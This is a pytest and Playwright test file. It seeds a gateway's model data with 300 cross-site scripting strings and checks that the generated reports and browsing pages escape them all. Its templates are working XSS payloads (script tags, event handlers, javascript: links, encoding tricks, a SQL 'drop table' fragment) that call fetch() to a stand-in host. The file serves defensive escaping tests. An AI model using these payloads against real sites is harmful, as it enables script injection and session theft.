"""Three hundred hostile texts of a gateway, on every surface that a browser shows."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from threading import Thread
from typing import Any
from urllib.parse import quote, urljoin, urlsplit

import pytest
from playwright.sync_api import Browser, Page
from support.browsing import browse_server
from support.e2e import Job, Reply, Scripted, listing

pytestmark = pytest.mark.proofs

NUMBER = 300
PAGES = 120
"""The most pages that are opened."""

PAGES_OF_A_KIND = 2
"""The pages of one table or route that are opened."""

ACTS = "alert(@);window.ran=(window.ran||[]).concat(@);fetch('http://elsewhere.invalid/@')"
"""What a text does if it is run; @ is its number."""

TEMPLATES = (
    "<script data-hostile=@>{acts}</script>hostile@",
    "</script><script data-hostile=@>{acts}</script>hostile@",
    "</title></textarea></style><script data-hostile=@>{acts}</script>hostile@",
    '"><img data-hostile=@ src=//elsewhere.invalid/@ onerror="{acts}">hostile@',
    "'><svg data-hostile=@ onload={acts}>hostile@",
    '" onmouseover="{acts}" autofocus onfocus="{acts}" data-hostile="@" x="hostile@',
    "' onpointerenter='{acts}' data-hostile='@' x='hostile@",
    "javascript:{acts}//hostile@",
    "data:text/html,<script>{acts}</script>hostile@",
    "<iframe data-hostile=@ srcdoc='<script>parent.{acts}</script>'></iframe>hostile@",
    "<a data-hostile=@ href=javascript:{acts}>hostile@</a>",
    "<base data-hostile=@ href=//elsewhere.invalid/@>hostile@",
    "<link data-hostile=@ rel=stylesheet href=//elsewhere.invalid/@>hostile@",
    "<meta data-hostile=@ http-equiv=refresh content='0;url=//elsewhere.invalid/@'>hostile@",
    "<style data-hostile=@>@import '//elsewhere.invalid/@';</style>hostile@",
    "<form data-hostile=@ action=//elsewhere.invalid/@><input autofocus>hostile@",
    "<math data-hostile=@><mtext></mtext><script>{acts}</script></math>hostile@",
    "<svg><animate data-hostile=@ onbegin={acts} attributeName=x dur=1s></svg>hostile@",
    "<details data-hostile=@ open ontoggle={acts}>hostile@",
    "<!--><img data-hostile=@ src=x onerror={acts}>-->hostile@",
    "[hostile@](javascript:{acts})",
    "![hostile@](http://elsewhere.invalid/@)",
    "{{{{ constructor.constructor('{acts}')() }}}} {{% raw %}} ${{{acts}}} hostile@",
    "\u202e<img data-hostile=@ src=x onerror={acts}>\u2066hostile@",
    "+ADw-script data-hostile=@+AD4-{acts}+ADw-/script+AD4-hostile@",
    "\\u003cscript data-hostile=@\\u003e{acts}\\u003c/script\\u003ehostile@",
    "&lt;script data-hostile=@&gt;{acts}&lt;/script&gt;hostile@",
    "%3Cscript data-hostile=@%3E{acts}%3C/script%3Ehostile@",
    "]]><script data-hostile=@>{acts}</script>hostile@",
    "'; drop table models; --<object data-hostile=@ data=//elsewhere.invalid/@>hostile@",
)


def hostile(number: int) -> str:
    """Return the text of this number."""
    template = TEMPLATES[number % len(TEMPLATES)].format(acts=ACTS)
    return template.replace("@import", "\0").replace("@", str(number)).replace("\0", "@import")


def records(turn: int) -> list[dict[str, Any]]:
    """Return seventy-five models, each with a text as id, description, owner and name of a field."""
    share = NUMBER // 4
    return [
        {
            "id": hostile(number),
            "object": "model",
            "description": f"{turn} {hostile(share + number)}",
            "owned_by": hostile(2 * share + number),
            hostile(3 * share + number): turn,
        }
        for number in range(share)
        if turn == 0 or number % 7 != turn
    ]


@pytest.fixture(scope="module")
def job(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Job]:
    """A home that recorded the texts as new, changed, removed, returned and as an error."""
    turn = 0

    def answer(_: object) -> Reply:
        if turn == 4:
            error = {"error": {"message": hostile(0), "code": hostile(1), "type": hostile(2)}}
            return Reply(json.dumps(error).encode(), status=403)
        return Reply(listing(records(turn)))

    with Scripted(answer) as server:
        job = Job(tmp_path_factory.mktemp("hostile"))
        job.asks(server.url, max_loss=1.0, attempts=1)
        files = (
            'type = "files"\ndirectory = "web"\nforms = ["html", "atom", "feed", "ics"]\nseverity = "quiet"\n'
        )
        job.configure(f"{job.config.read_text('utf-8')}[destinations.web]\n{files}")
        for turn in range(5):
            assert job.quick("run", at=f"2026-05-{1 + turn:02}T06:00:00Z").code in {0, 4}
        page = job.quick("report", "--since", "2026-05-01", "--as", "html")
        (job.home / "web" / "report.html").write_text(page.stdout, "utf-8")
        yield job


@pytest.fixture
def page(browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A page, and what it did: dialogs and requests to elsewhere."""
    context = browser.new_context()
    window = context.new_page()
    done: list[str] = []
    window.on("dialog", lambda dialog: (done.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
    window.on("popup", lambda popup: done.append(f"a window: {popup.url}"))
    window.on(
        "request",
        lambda request: (
            None
            if request.url.startswith(("http://127.0.0.1:", "file:", "data:"))
            else done.append(request.url)
        ),
    )
    yield window, done
    context.close()


def looked_at(window: Page, url: str) -> set[int]:
    """Open a page and touch all on it; assert that no text is markup; return the numbers of those shown."""
    window.goto(url)
    window.evaluate(
        "for (const each of document.querySelectorAll('body *'))"
        " for (const name of ['mouseover', 'pointerenter', 'focus', 'toggle'])"
        " each.dispatchEvent(new Event(name))"
    )
    assert window.evaluate("window.ran || []") == [], url
    assert window.locator("[data-hostile]").count() == 0, url
    assert (
        window.locator("a[href^='javascript:' i], a[href^='data:text' i], base, iframe, object").count() == 0
    ), url
    return {int(found) for found in re.findall(r"hostile(\d+)", window.evaluate("document.body.textContent"))}


def kind_of(url: str) -> str:
    """Return what pages have in common: the route without names, values and filters."""
    parts = urlsplit(url)
    steps = parts.path.strip("/").split("/")[:2]
    return "/".join(steps) + ("?" if parts.query else "") + ("/…" if parts.path.count("/") > 2 else "")


def test_the_texts_act_where_they_are_not_escaped(page: tuple[Page, list[str]]) -> None:
    window, done = page
    for number in (0, 3, 4, 18):
        done.clear()
        window.set_content(f"<p>{hostile(number)}</p>")
        window.wait_for_function("(window.ran || []).length > 0")
        assert f"a dialog: {number}" in done
        assert window.locator("[data-hostile]").count() > 0


def test_no_text_of_a_gateway_does_anything_in_a_browser(job: Job, page: tuple[Page, list[str]]) -> None:
    window, done = page
    shown: set[int] = set()
    opened = 0
    for file in sorted((job.home / "web").glob("*.html")):
        shown |= looked_at(window, file.as_uri())
        opened += 1
    with browse_server(job) as (base, process):
        # The server would wait while its log is not read.
        assert process.stdout
        Thread(target=process.stdout.read, daemon=True).start()
        waiting = [
            base,
            *(f"{base}/modelwatch/{table}?_size=max" for table in ("models", "records", "changes")),
        ]
        waiting.append(f"{base}/modelwatch/models?_search={quote(hostile(0))}")
        waiting.append(f"{base}/modelwatch/{quote(hostile(3))}")
        quoted = hostile(0).replace("'", "''")
        sql = f"select '{quoted}'"
        waiting.append(f"{base}/modelwatch?sql={quote(sql)}")
        kinds: dict[str, int] = {}
        seen = set(waiting)
        while waiting and opened < PAGES:
            url = waiting.pop(0)
            shown |= looked_at(window, url)
            opened += 1
            for link in window.eval_on_selector_all("a[href]", "all => all.map(each => each.href)"):
                target = urljoin(url, link).partition("#")[0]
                kind = kind_of(target)
                is_page = target.startswith(f"{base}/") and not re.search(
                    r"\.(json|csv|blob|db|atom|jsono)\b", target
                )
                if is_page and target not in seen and kinds.get(kind, 0) < PAGES_OF_A_KIND:
                    kinds[kind] = kinds.get(kind, 0) + 1
                    seen.add(target)
                    waiting.append(target)
    assert shown >= set(range(NUMBER)), sorted(set(range(NUMBER)) - shown)
    assert opened > 74
    assert done == []
